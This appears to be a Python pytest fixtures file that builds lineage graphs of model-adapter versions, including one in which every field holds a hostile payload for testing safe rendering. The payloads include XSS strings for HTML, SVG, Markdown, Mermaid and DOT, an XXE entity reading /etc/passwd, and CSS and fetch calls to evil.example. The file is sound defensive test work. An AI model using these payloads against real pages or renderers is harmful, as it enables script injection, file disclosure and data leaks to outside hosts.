"""Graphs to draw: any shape, and one in which every field that a stranger can write holds something hostile."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Sequence

import pytest

from adapterctl.registry.api import LineageEdgeView, LineageView, RecallView, VersionView

Views = Callable[[Sequence[str], Sequence[tuple[str, str]]], LineageView]

_CODE = ("window.hit=1", "alert(1)", "fetch('http://evil.example/')", "document.title='hit'", "print()")
_FORMS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</desc></svg><script>{}</script>",
    "]]><script>{}</script>",
    "--><script>{}</script>",
    "<!--<script>{}",
    '"><img src=x onerror="{}">',
    "'><svg onload='{}'>",
    '" onfocus="{}" autofocus="',
    "' onmouseover='{}' x='",
    '<a href="javascript:{}">a</a>',
    "javascript:{}",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{}'/></foreignObject>",
    "<animate onbegin='{}' attributeName='x' dur='1s'/>",
    "<use href='data:image/svg+xml,<svg onload={}>'/>",
    "${{{}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\u2028{}\u2029",
    # what Markdown, Mermaid and DOT would read
    "[a](javascript:{})",
    "![a](x' onerror='{})",
    "![a](http://evil.example/x.png)<!--{}-->",
    "```\n<script>{}</script>\n```",
    '"];click a href "javascript:{}"',
    "|a|<b onclick={}>|",
    'x" URL="javascript:{}',
    "%%{{init: {{'securityLevel':'loose'}}}}%%{}",
    "<http://evil.example/{}>",
    "<details open ontoggle={}>",
    "[a]: javascript:{} 'a'",
)
_OTHERS = (
    "</svg>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "&e;", "&", "<",
    ">", "\x00", "\x0b\x1b[31m", "\ud800", "\ufffe", "\u202eevil", "__proto__", "constructor", "toString", "</",
    "]]>", "\\", "url(http://evil.example/x.png)", "};body{background:url(http://evil.example/)}", "@import 'http://evil.example/';",
    "\U0001f600", "a" * 5000, "", " ", "{}", "[]", "%00", "#", "?",
)  # fmt: skip


@pytest.fixture(scope="session")
def views() -> Views:
    """Versions by ref, a merge with weight 0.5 for every (parent, child); the first one is the root."""

    def build(refs: Sequence[str], pairs: Sequence[tuple[str, str]]) -> LineageView:
        edges = tuple(LineageEdgeView(child, parent, "merge", 0.5, i) for i, (parent, child) in enumerate(pairs))
        return LineageView(refs[0], "both", tuple(map(_version, refs)), edges)

    return build


@pytest.fixture(scope="session")
def payloads() -> tuple[str, ...]:
    return (*(form.format(code) for form, code in itertools.product(_FORMS, _CODE)), *_OTHERS)


@pytest.fixture(scope="session")
def hostile(payloads: Sequence[str]) -> LineageView:
    """A chain with a version for each payload, in every field: an old registry may hold anything."""
    refs = [f"{payload}:v{i}" for i, payload in enumerate(payloads)]
    versions = tuple(_hostile(ref, payload) for ref, payload in zip(refs, payloads, strict=True))
    edges = tuple(
        LineageEdgeView(child, parent, payload, None, 0)
        for (parent, child), payload in zip(itertools.pairwise(refs), payloads, strict=False)
    )
    return LineageView(refs[0], "both", versions, edges)


def _version(ref: str) -> VersionView:
    name, _, number = ref.rpartition(":v")
    return VersionView(
        ref=ref, name=name, number=int(number), id=ref, kind="train", state="live", base="base", base_id="b", rank=4,
        dtype="BF16", modules=1, parameters=1, size_bytes=1, content_digest="0", created_at="2026-01-02T03:04:05Z",
        created_by="ann",
    )  # fmt: skip


def _hostile(ref: str, payload: str) -> VersionView:
    name, _, number = ref.rpartition(":v")
    return VersionView(
        ref=ref, name=name, number=int(number), id=ref, kind=payload, state=payload, base=payload, base_id=payload,
        rank=4, dtype=payload, modules=1, parameters=1, size_bytes=1, content_digest=payload, created_at=payload,
        created_by=payload, stages=(payload,), method=payload, loss=0.1, metrics={payload: 1.0},
        params={payload: payload}, tags={payload: payload}, license=payload, dataset=payload, source=payload,
        recall=RecallView(payload, payload, payload, payload),
    )  # fmt: skip
